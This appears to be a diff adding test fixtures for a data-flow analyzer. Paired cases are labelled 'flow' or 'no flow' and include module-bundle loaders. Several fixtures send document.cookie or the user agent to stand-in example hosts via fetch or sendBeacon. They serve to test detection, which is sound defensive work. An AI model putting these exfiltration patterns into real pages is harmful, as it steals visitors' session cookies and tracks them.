@@ -41,3 +41,67 @@ fetch('https://settings.mo14.example/v2/config?v=' + (saved().version || 0));
 const saved = () => JSON.parse(localStorage.getItem('remote-settings') || '{}');
 fetch('https://nsettings.mo14.example/v2/config?v=' + (saved().version || 0) + '&i=' + saved().installation);
 
+//# list-of-modules
+// flow: identifier > lom.mo14.example via fetch
+!(function (modules) {
+  var cache = {};
+  function load(id) {
+    if (cache[id]) return cache[id].exports;
+    var module = (cache[id] = { i: id, l: false, exports: {} });
+    return modules[id].call(module.exports, module, module.exports, load), (module.l = true), module.exports;
+  }
+  load(0);
+})([
+  function (module, exports, load) { var show = load(2), send = load(1); show('ready'), send(document.cookie); },
+  function (module, exports, load) { module.exports = function (v) { fetch('https://lom.mo14.example/l', { method: 'POST', body: v }); }; },
+  function (module) { module.exports = function (v) { document.title = v; }; },
+]);
+
+//# near-list-of-modules
+// no flow
+// why: the third module of the list shows the cookie; the second, which sends, is given a word
+!(function (modules) {
+  var cache = {};
+  function load(id) {
+    if (cache[id]) return cache[id].exports;
+    var module = (cache[id] = { i: id, l: false, exports: {} });
+    return modules[id].call(module.exports, module, module.exports, load), (module.l = true), module.exports;
+  }
+  load(0);
+})([
+  function (module, exports, load) { var show = load(2), send = load(1); show(document.cookie), send('ready'); },
+  function (module, exports, load) { module.exports = function (v) { fetch('https://nlom.mo14.example/l', { method: 'POST', body: v }); }; },
+  function (module) { module.exports = function (v) { document.title = v; }; },
+]);
+
+//# two-bundles-with-the-same-keys
+// flow: device > tbk.mo14.example via beacon
+(() => {
+  var table = {
+    1: (module, exports, load) => { load(2)(navigator.userAgent); },
+    2: (module, exports, load) => { module.exports = (v) => navigator.sendBeacon('https://tbk.mo14.example/a', v); },
+  };
+  var run = (id, module = { exports: {} }) => (table[id](module, module.exports, run), module.exports);
+  run(1);
+})();
+(() => {
+  var table = {
+    1: (module, exports, load) => { load(2)(document.cookie); },
+    2: (module, exports, load) => { module.exports = (v) => { document.title = v; }; },
+  };
+  var run = (id, module = { exports: {} }) => (table[id](module, module.exports, run), module.exports);
+  run(1);
+})();
+
+//# one-method-is-no-module
+// flow: identifier > omm.mo14.example via fetch
+const store = (codec) => ({ keep(name, value) { return codec.write(value, { name }); } });
+const kept = store({ write(text, options) { fetch('https://omm.mo14.example/' + options.name, { method: 'POST', body: text }); } });
+kept.keep('visitor', document.cookie);
+
+//# near-one-method-is-no-module
+// no flow
+// why: of what the method is given, only the name is sent
+const store = (codec) => ({ keep(name, value) { return codec.write(value, { name }); } });
+const kept = store({ write(text, options) { fetch('https://nomm.mo14.example/' + options.name, { method: 'POST' }); } });
+kept.keep('visitor', document.cookie);
